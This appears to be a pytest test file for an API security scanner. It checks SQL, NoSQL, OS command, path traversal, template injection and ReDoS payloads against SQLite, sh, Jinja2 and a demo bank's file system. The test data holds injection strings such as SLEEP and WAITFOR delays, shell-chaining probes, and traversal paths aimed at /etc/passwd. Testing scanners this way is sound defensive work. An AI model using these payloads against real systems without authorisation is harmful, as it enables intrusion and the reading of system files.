"""The payload library, tried against real engines where one runs here: SQLite, sh, Jinja2."""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
from collections.abc import Iterator
from urllib.parse import unquote

import pytest

from apiward.demo import shell
from apiward.demo.files import read_file
from apiward.scan.payloads import (
    NOSQL_OPERATOR_PROBES,
    SQL_ERROR_PROBES,
    command_echo_hit,
    command_echo_payloads,
    command_time_payloads,
    nosql_query_probes,
    redos_inputs,
    shadow_paths,
    sql_boolean_pairs,
    sql_time_payloads,
    ssti_hit,
    ssti_payloads,
    traversal_hit,
    traversal_payloads,
)

A, B = 1234, 5678  # product 7006652

# ------------------------------------------------------------------ SQL, on SQLite
# How vulnerable code pastes a value into its SQL, as in the demo bank's search.
CONTEXTS = {
    "string": "SELECT id FROM merchants WHERE name = '{v}' ORDER BY id",
    "like": "SELECT id FROM merchants WHERE name LIKE '%{v}%' ORDER BY id LIMIT 50",
    "number": "SELECT id FROM merchants WHERE id = {v} ORDER BY id",
}
VALUES = {"string": "Corner Cafe", "like": "Cafe", "number": "2"}


@pytest.fixture(scope="module")
def db() -> Iterator[sqlite3.Connection]:
    conn = sqlite3.connect(":memory:")
    conn.execute("CREATE TABLE merchants (id INTEGER PRIMARY KEY, name TEXT)")
    names = ["Corner Cafe", "Cafe Bleu", "Book Nook", "Gas & Go", "Night Cafe"]
    conn.executemany("INSERT INTO merchants (name) VALUES (?)", [(n,) for n in names])
    yield conn
    conn.close()


def _rows(db: sqlite3.Connection, context: str, value: str) -> list[int] | None:
    try:
        return [r[0] for r in db.execute(CONTEXTS[context].format(v=value)).fetchall()]
    except sqlite3.Error:
        return None


@pytest.mark.parametrize("context", list(CONTEXTS))
def test_error_probes_break_the_query(db: sqlite3.Connection, context: str) -> None:
    value = VALUES[context]
    assert _rows(db, context, value)
    broken = [p for p in SQL_ERROR_PROBES if _rows(db, context, value + p) is None]
    assert broken, "no probe breaks the query"


@pytest.mark.parametrize("context", list(CONTEXTS))
def test_boolean_pairs_tell_true_from_false(db: sqlite3.Connection, context: str) -> None:
    value = VALUES[context]
    baseline = _rows(db, context, value)
    proving = [
        (true, false)
        for true, false in sql_boolean_pairs(value)
        if _rows(db, context, true) == baseline and _rows(db, context, false) == []
    ]
    assert proving, f"no pair works in the {context} context"


def test_boolean_pairs_widen_only_when_asked(db: sqlite3.Connection) -> None:
    assert all(" OR " not in true for true, _ in sql_boolean_pairs("zz"))
    assert _rows(db, "like", "zz") == []
    widened = [true for true, _ in sql_boolean_pairs("zz", widen=True) if _rows(db, "like", true)]
    assert widened  # OR matches every row where the value matches none
    assert len(sql_boolean_pairs("7")) > len(sql_boolean_pairs("x"))  # numeric context


@pytest.mark.parametrize("context", list(CONTEXTS))
def test_sqlite_time_payloads_run_and_keep_the_answer(db: sqlite3.Connection, context: str) -> None:
    value = VALUES[context]
    baseline = _rows(db, context, value)
    sqlite = [p for p in sql_time_payloads(0.01) if "randomblob" in p]
    assert len(sqlite) == 2
    answers = [_rows(db, context, value + p) for p in sqlite]
    # the delay leaves the value as it was: the same rows, nothing more
    assert baseline in answers


def test_time_payloads_name_the_delay() -> None:
    payloads = sql_time_payloads(2)
    assert "'XOR(SELECT 0 FROM (SELECT SLEEP(2))apiward)XOR'" in payloads
    assert "'||(SELECT '' FROM pg_sleep(2))||'" in payloads
    assert "'; WAITFOR DELAY '00:00:02.000'-- " in payloads
    assert "LIMIT 200)" in payloads[-1]
    assert "pg_sleep(1.5)" in " ".join(sql_time_payloads(1.5))
    for bad in (0, -1, 31):
        with pytest.raises(ValueError, match="seconds"):
            sql_time_payloads(bad)


def test_nosql_probes() -> None:
    assert json.loads(json.dumps(NOSQL_OPERATOR_PROBES[0])) == {"$ne": None}
    assert all(len(p) == 1 and next(iter(p)).startswith("$") for p in NOSQL_OPERATOR_PROBES)
    assert ("user[$ne]", "apiward-none") in nosql_query_probes("user")
    assert ("user[$regex]", ".*") in nosql_query_probes("user")


# ------------------------------------------------------------------ OS commands, on sh
SH = shutil.which("sh")
POSIX_ECHO = [p for p in command_echo_payloads(A, B) if "set /a" not in p]


def _sh(command: str) -> str:
    assert SH is not None
    done = subprocess.run(
        [SH, "-c", command], capture_output=True, text=True, timeout=10, check=False
    )
    return done.stdout + done.stderr


def _injected(payload: str) -> list[str]:
    """The payload in the usual spots: after an argument of a succeeding and a failing
    command, and inside a quoted argument when it closes the quote."""
    if payload.startswith("'"):
        return [f"true '127.0.0.1{payload}'", f"false '127.0.0.1{payload}'"]
    if payload.startswith('"'):
        return [f'true "127.0.0.1{payload}"', f'false "127.0.0.1{payload}"']
    return [f"echo 127.0.0.1{payload}", f"false 127.0.0.1{payload}"]


@pytest.mark.skipif(SH is None, reason="no POSIX shell")
@pytest.mark.parametrize("payload", POSIX_ECHO)
def test_echo_payloads_make_sh_print_the_product(payload: str) -> None:
    assert str(A * B) not in payload
    outputs = [_sh(command) for command in _injected(payload)]
    assert any(command_echo_hit(out, A, B) for out in outputs), outputs


@pytest.mark.skipif(SH is None, reason="no POSIX shell")
@pytest.mark.parametrize("payload", [p for p in command_time_payloads(2) if "ping" not in p])
def test_time_payloads_run_under_sh(payload: str) -> None:
    # the same syntax with the sleep swapped for an echo: proves it runs, without waiting
    probe = payload.replace("sleep 2", "echo apiward-ran")
    assert any("apiward-ran" in _sh(command) for command in _injected(probe))


@pytest.mark.parametrize("payload", [p for p in command_time_payloads(1) if "ping" not in p])
def test_time_payloads_make_the_demo_shell_sleep(payload: str) -> None:
    _, slept = shell.run(f"ping -c 1 127.0.0.1{payload}")
    assert slept == 1


def test_command_payload_forms() -> None:
    assert command_time_payloads(1.2)[0] == ";sleep 2"  # whole seconds, rounded up
    assert "& ping -n 3 127.0.0.1" in command_time_payloads(2)
    assert f"& set /a {A}*{B}" in command_echo_payloads(A, B)
    reflected = json.dumps({"host": "127.0.0.1" + "".join(command_echo_payloads(A, B))})
    assert command_echo_hit(reflected, A, B) is None
    assert command_echo_hit('{"output": "17006652"}', A, B) is None
    assert command_echo_hit('{"output": "7006652\\n"}', A, B) is not None
    with pytest.raises(ValueError, match="factors"):
        command_echo_payloads(2, 3)


# ------------------------------------------------------------------ path traversal
def test_traversal_reaches_etc_passwd_in_the_demo_file_system() -> None:
    cwd = "/srv/demobank/statements/alice"  # four levels below /
    hits = [p for p in traversal_payloads() if traversal_hit(read_file(p, cwd) or "")]
    assert "../../../../etc/passwd" in hits
    assert "/etc/passwd" in hits
    assert "../../../etc/passwd" not in hits  # three levels stay inside /srv


def test_traversal_payload_forms() -> None:
    payloads = traversal_payloads()
    assert len(payloads) == len(set(payloads))
    for depth in range(3, 9):
        plain = "../" * depth + "etc/passwd"
        assert plain in payloads
        assert "..\\" * depth + "windows\\win.ini" in payloads
        assert unquote("%2e%2e%2f" * depth + "etc%2fpasswd") == plain
        assert unquote(unquote("%252e%252e%252f" * depth + "etc%252fpasswd")) == plain
        assert "....//" * depth + "etc/passwd" in payloads


WIN_INI = "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n"


def test_traversal_hit() -> None:
    passwd = read_file("/etc/passwd")
    assert passwd is not None
    assert traversal_hit(passwd) == passwd[:120]
    assert traversal_hit(json.dumps({"content": passwd})) is not None
    assert traversal_hit(WIN_INI) is not None
    for quiet in (
        json.dumps({"error": f"no such file: {traversal_payloads()[0]}"}),
        "\n".join(traversal_payloads()),
        "[extensions]\nfoo=bar\n",
        '{"user": "root", "uid": 0, "gid": 0}',
    ):
        assert traversal_hit(quiet) is None, quiet


# ------------------------------------------------------------------ templates
def test_ssti_hit_on_jinja2() -> None:
    jinja2 = pytest.importorskip("jinja2")
    env = jinja2.Environment(autoescape=True)
    rendered = []
    for payload in ssti_payloads(A, B):
        try:
            rendered.append(env.from_string(f"Hello {payload}!").render())
        except jinja2.TemplateError:
            continue
    hits = [text for text in rendered if ssti_hit(text, A, B)]
    assert hits == ["Hello 7006652!"]


def test_ssti_hit_ignores_reflection() -> None:
    reflected = json.dumps({"name": " ".join(ssti_payloads(A, B))})
    assert ssti_hit(reflected, A, B) is None
    assert ssti_hit("<p>Hello 1234 5678</p>", A, B) is None
    assert ssti_hit("<p>Hello 7006652</p>", A, B) == "<p>Hello 7006652</p>"
    assert all(f"{A}*{B}" in p for p in ssti_payloads(A, B))
    with pytest.raises(ValueError, match="factors"):
        ssti_payloads(7, 1234)


# ------------------------------------------------------------------ ReDoS
def test_redos_inputs() -> None:
    inputs = redos_inputs(30)
    assert inputs[0] == "a" * 30 + "!"
    assert all(28 <= len(s) <= 40 for s in inputs)
    assert len(set(inputs)) == len(inputs)
    assert all(len(s) >= 50_000 for s in redos_inputs(50_000))
    for bad in (0, 100_001):
        with pytest.raises(ValueError, match="n must"):
            redos_inputs(bad)


# ------------------------------------------------------------------ shadow paths
def test_shadow_paths() -> None:
    paths = shadow_paths()
    assert 150 <= len(paths) <= 400
    assert len(set(paths)) == len(paths)
    assert all(p.startswith("/") and not any(c.isspace() for c in p) for p in paths)
    # the demo bank's undocumented routes are on the list
    assert {"/debug", "/api/v1/users"} <= set(paths)
    # nothing that costs the target dearly or changes its state
    for risky in ("/actuator/heapdump", "/actuator/shutdown", "/debug/pprof/profile"):
        assert risky not in paths
    paths.clear()
    assert shadow_paths()  # callers get a copy
